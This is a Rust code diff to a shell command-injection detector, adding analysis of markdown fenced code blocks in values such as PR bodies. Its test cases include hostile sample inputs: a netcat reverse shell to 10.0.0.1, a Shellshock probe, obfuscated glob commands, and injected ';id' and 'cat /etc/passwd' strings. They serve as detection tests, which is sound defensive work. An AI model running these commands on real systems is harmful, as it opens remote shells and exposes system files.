@@ -59,9 +59,67 @@ fn detect_plain(input: &[u8]) -> Option<Finding> {
     None
 }
 
+/// A markdown document (a PR body, a ticket) with fenced code blocks: each block is a snippet of its own, read
+/// from its first line as a value is (a block that starts with a program is a script, so only obfuscation
+/// counts in it; `;id` inside a block still counts), and the text around the blocks is read without them.
+fn in_contexts(b: &[u8]) -> Option<Finding> {
+    let Some(blocks) = fenced_blocks(b) else {
+        return in_quote_contexts(b);
+    };
+    let mut text = Vec::with_capacity(b.len());
+    let mut last = 0;
+    for r in &blocks {
+        text.extend_from_slice(&b[last..r.start]);
+        text.push(b'\n');
+        last = r.end;
+    }
+    text.extend_from_slice(&b[last..]);
+    for r in blocks {
+        let (fence, content) = (r.start, &b[r.clone()]);
+        // The block's content starts after the opening fence line and ends before the closing fence.
+        let body_start = content.iter().position(|&c| c == b'\n').map_or(content.len(), |p| p + 1);
+        let body_end = content.iter().rposition(|&c| c == b'\n').filter(|&p| p >= body_start).unwrap_or(content.len());
+        if let Some(mut f) = in_quote_contexts(&content[body_start..body_end]) {
+            let off = fence + body_start;
+            f.span = f.span.start + off..f.span.end + off;
+            return Some(f);
+        }
+    }
+    // Spans in the surrounding text are approximate (the blocks are cut out); the reason is what matters.
+    in_quote_contexts(&text)
+}
+
+/// The byte ranges of markdown fenced code blocks (a line starting with three backticks or tildes, an optional
+/// language, up to and including the closing fence line), or `None` when the value has no complete block.
+fn fenced_blocks(b: &[u8]) -> Option<Vec<std::ops::Range<usize>>> {
+    let mut blocks = Vec::new();
+    let mut open: Option<(usize, u8)> = None;
+    let mut line_start = 0;
+    while line_start < b.len() {
+        let line_end = b[line_start..].iter().position(|&c| c == b'\n').map_or(b.len(), |p| line_start + p);
+        let line = b[line_start..line_end].trim_ascii();
+        let fence = [b'`', b'~'].into_iter().find(|&f| line.len() >= 3 && line[..3].iter().all(|&c| c == f));
+        match (open, fence) {
+            (None, Some(f)) => {
+                let info = &line[3..];
+                if info.iter().all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'+' | b'.' | b' ')) {
+                    open = Some((line_start, f));
+                }
+            }
+            (Some((start, f)), Some(g)) if f == g && line.iter().all(|&c| c == f) => {
+                blocks.push(start..line_end);
+                open = None;
+            }
+            _ => {}
+        }
+        line_start = line_end + 1;
+    }
+    (!blocks.is_empty()).then_some(blocks)
+}
+
 /// The value may be pasted into the command line bare, inside `'...'` or inside `"..."`: an attacker
 /// closes the quote first (`a'; whoami; '`). Analyse each context the value's quotes make possible.
-fn in_contexts(b: &[u8]) -> Option<Finding> {
+fn in_quote_contexts(b: &[u8]) -> Option<Finding> {
     analyse(b).or_else(|| {
         for q in [b'\'', b'"'] {
             if b.contains(&q) {
@@ -406,6 +464,8 @@ mod tests {
             "x; nc -e /bin/sh 10.0.0.1 4444",
             "() { :; }; echo vulnerable",
             "x;/???/??t /???/p??s??",
+            "notes\n```\n;id\n```\nthanks",
+            "## Summary\n```sh\nls\n```\nthen; cat /etc/passwd",
         ] {
             assert!(detect(a.as_bytes()).is_some(), "{a}");
         }
@@ -427,6 +487,7 @@ mod tests {
             "echo",
             "cat",
             "for (i = 0; i < n; i++) { sum += a[i]; }",
+            "## Summary\n\n```shell\nls -la ~/projects && cd ~/projects/site\n```\n\nCloses #18",
         ] {
             assert!(detect(b.as_bytes()).is_none(), "{b}: {:?}", detect(b.as_bytes()));
         }
